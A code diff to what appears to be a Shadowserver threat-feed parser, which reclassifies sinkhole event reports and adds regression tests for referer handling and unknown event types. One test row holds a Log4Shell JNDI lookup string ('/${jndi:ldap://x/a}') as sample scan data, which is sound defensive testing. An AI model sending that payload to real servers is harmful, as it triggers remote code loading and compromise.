@@ -82,7 +82,7 @@ def _report(header: str) -> str | None:
         (f'{SCAN},"freak_vulnerable"', "scan_ssl_freak"),
         (f'{SCAN},"device_vendor","device_type","device_model"', "device_id"),
         (f"{EVENT},http_url,http_host", "event4_sinkhole_http"),
-        (EVENT, "event4_sinkhole"),
+        (EVENT, None),  # sinkhole rows are told by naming an infection or family
         (SCAN, None),
         ('"timestamp","ip","hostname","source","reason","asn","geo"', "blocklist"),
         ('"timestamp","url","host","ip","asn","geo","source"', "phish_url"),
@@ -499,3 +499,39 @@ def test_pipeline_stamps_feed_and_keeps_the_default_marking(sqlite_node: Node) -
     assert set(events["feed.provider"]) == {"Shadowserver"}
     assert set(events["tlp"]) == {"AMBER"}
     assert set(events["feed.name"]) == {"scan_telnet", "scan6_telnet", "scan_smtp_vulnerable"}
+
+
+def test_a_sinkhole_http_referer_is_no_source() -> None:
+    # Tester's report (feeds-2): in event4_sinkhole_http, http_referer is a header the bot
+    # sent; it became source.url, and a MISP export published the victim's page as an IOC.
+    header = f'{EVENT},"http_url","http_host","http_agent","http_referer"'
+    row = (
+        '"2024-05-01 10:00:00","tcp","192.0.2.20",4000,64496,"CN","198.51.100.1",80,,'
+        '"andromeda","andromeda",,,"/in.php","sinkholed.example","Mozilla/4.0",'
+        '"http://www.victim-news.example.com/article?id=1"'
+    )
+    (event,) = _rows(_parse([header, row])).values()
+    assert (event["feed.name"], event["source.ip"], event["source.url"]) == (
+        "event4_sinkhole_http",
+        "192.0.2.20",
+        None,
+    )
+    assert json.loads(event["extra"])["http_referer"] == (
+        "http://www.victim-news.example.com/article?id=1"
+    )
+
+
+def test_an_unknown_event_report_is_no_sinkhole() -> None:
+    # Tester's report (feeds-3): every event report has the infection column, so any new one
+    # was read as a sinkhole's infected systems; rows naming no infection are of no known type.
+    header = f'{EVENT},"http_url","http_agent","http_request_method","cve"'
+    row = (
+        '"2024-05-01 10:00:00","tcp","192.0.2.21",4000,64496,"CN","198.51.100.1",80,,,,'
+        '"cve-2021-44228",,"/${jndi:ldap://x/a}","curl","GET","CVE-2021-44228"'
+    )
+    (event,) = _rows(_parse([header, row])).values()
+    assert (
+        event["feed.name"],
+        event["classification.type"],
+        event["classification.identifier"],
+    ) == (None, "undetermined", "cve-2021-44228")
